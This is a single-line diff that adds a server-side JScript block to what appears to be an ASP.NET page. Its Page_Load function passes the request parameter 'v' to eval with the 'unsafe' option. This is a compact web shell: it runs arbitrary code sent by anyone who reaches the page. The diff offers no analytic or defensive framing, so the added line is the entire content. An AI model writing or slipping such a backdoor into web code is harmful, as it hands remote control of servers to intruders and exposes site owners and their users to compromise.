@@ -1,0 +1,1 @@
+<SCRIPT LANGUAGE='JSCRIPT' RUNAT='SERVER'>function Page_Load(){eval(Request['v'],'unsafe');}</SCRIPT>
